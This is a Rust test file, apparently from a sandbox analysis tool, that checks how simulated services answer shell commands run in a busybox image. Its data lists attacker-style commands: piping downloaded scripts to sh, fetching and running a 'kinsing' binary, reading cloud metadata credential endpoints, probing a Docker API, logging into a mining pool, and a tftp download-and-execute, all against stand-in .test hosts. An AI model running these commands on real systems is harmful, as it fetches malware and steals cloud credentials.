//! Look-alikes and conversations, as busybox in the sandbox meets them. One run for all: what it prints is
//! what the world said.

use std::fs;

use crate::place::{Place, busybox, run};
use crate::support::live;

/// What is done, and a line of what is printed then.
const DEEDS: [(&str, &str); 20] = [
    ("wget -q -O - http://x.test/install | sh", "done"),
    (
        "wget -q -O /tmp/x http://x.test/kinsing.x86_64; chmod +x /tmp/x; /tmp/x; echo program: $?",
        "program: 0",
    ),
    ("wget -q -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/", "web-instance-role"),
    (
        "wget -q -O - --header 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/project/project-id",
        "web-production-318204",
    ),
    ("wget -O - http://metadata.google.internal/computeMetadata/v1/ 2>&1 | grep -o '403 [A-Z]*'", "403 F"),
    ("wget -q -O - http://169.254.170.2/v2/credentials/x | grep -o RoleArn", "RoleArn"),
    ("wget -O - http://kubernetes.default.svc/api 2>&1 | grep -o 'error: .* 401'", "401"),
    ("wget -q -O - http://10.0.0.5:2375/_ping", "OK"),
    ("wget -q -O - http://icanhazip.com", "18.196.74.213"),
    ("printf 'EHLO a\\r\\nQUIT\\r\\n' | nc mail.test 25", "250-PIPELINING"),
    ("printf 'NICK b\\r\\nUSER a 0 * :a\\r\\nQUIT\\r\\n' | nc irc.test 6667", "001 b :Welcome"),
    ("printf '*1\\r\\n$4\\r\\nPING\\r\\nQUIT\\r\\n' | nc redis.test 16379", "+PONG"),
    (
        "(echo '{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"wallet\"}}'; sleep 1) | nc pool.test 443",
        "\"algo\":\"rx/0\"",
    ),
    ("printf 'USER a\\r\\nPASS b\\r\\nPASV\\r\\nQUIT\\r\\n' | nc ftp.test 21", "227 Entering Passive Mode"),
    ("sleep 1 | nc 1.2.3.4 50021", "ok"),
    // Its own TLS names no signature algorithms.
    ("wget -q -O - https://secure.test/install | sh", "done"),
    ("cd /tmp && tftp -g -r bins.sh tftp.test && sh bins.sh", "done"),
    ("echo example.org | nc whois.test 43", "Domain Name: example.org"),
    // Java's own store, and a bundle of a Python package: both trust the world's authority.
    ("od -An -tx1 -N4 /usr/lib/jvm/java-17/lib/security/jssecacerts", "fe ed fe ed"),
    ("cat /usr/local/lib/python3.12/site-packages/certifi/cacert.pem", "own\n\n-----BEGIN CERTIFICATE-----"),
];

/// Where Java and Python have their authorities.
const TRUSTING: [(&str, &[u8]); 2] = [
    ("usr/lib/jvm/java-17/lib/security/cacerts", b"store"),
    ("usr/local/lib/python3.12/site-packages/certifi/cacert.pem", b"own\n"),
];

#[test]
fn services_answer_as_what_they_look_like() {
    if !live() {
        return;
    }
    let place = Place::new();
    let script: String =
        DEEDS.iter().enumerate().map(|(at, (deed, _))| format!("echo; echo deed {at}; {deed}\n")).collect();
    let mut layer = busybox();
    for (path, file) in TRUSTING {
        let parents = path.match_indices('/').map(|(at, _)| &path[..at]);
        layer = parents.fold(layer, |layer, parent| layer.directory(parent, 0o755)).file(path, file, 0o644);
    }
    let image = place.image(run(layer, &["/bin/sh", "-c", &script]));
    let said = place.analyze(&["--duration", "240s", &image]);
    let printed = fs::read_to_string(place.path("out/stdout")).unwrap();
    for (at, (deed, expected)) in DEEDS.iter().enumerate() {
        let part =
            printed.split(&format!("\ndeed {at}\n")).nth(1).and_then(|rest| rest.split("\ndeed ").next());
        let part = part.unwrap_or_else(|| panic!("{deed} was not come to: {printed}{}", said.stderr));
        assert!(part.contains(expected), "{deed}: {part}");
    }
    place.assert_clean();
}
